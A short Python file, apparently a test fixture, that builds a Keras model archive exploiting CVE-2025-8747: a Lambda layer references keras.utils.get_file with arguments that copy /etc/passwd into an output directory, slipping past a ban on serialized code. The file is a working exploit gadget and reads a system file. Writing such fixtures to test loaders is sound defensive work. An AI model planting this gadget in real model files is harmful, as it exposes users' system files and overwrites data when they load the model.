"""A Lambda layer whose function is not code but the name of a Keras function, `keras.utils.get_file`, with arguments
that overwrite a file of the machine (CVE-2025-8747): the ban of code alone lets it pass.
"""


def write(draft):
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "keras.utils.get_file",
    }
    gadget = draft.layer(
        "Lambda",
        name="lambda",
        function=function,
        arguments={"origin": "file:///etc/passwd", "cache_dir": "/out", "cache_subdir": "", "fname": "x.json"},
    )
    draft.model(draft.archive(draft.sequential(gadget)))
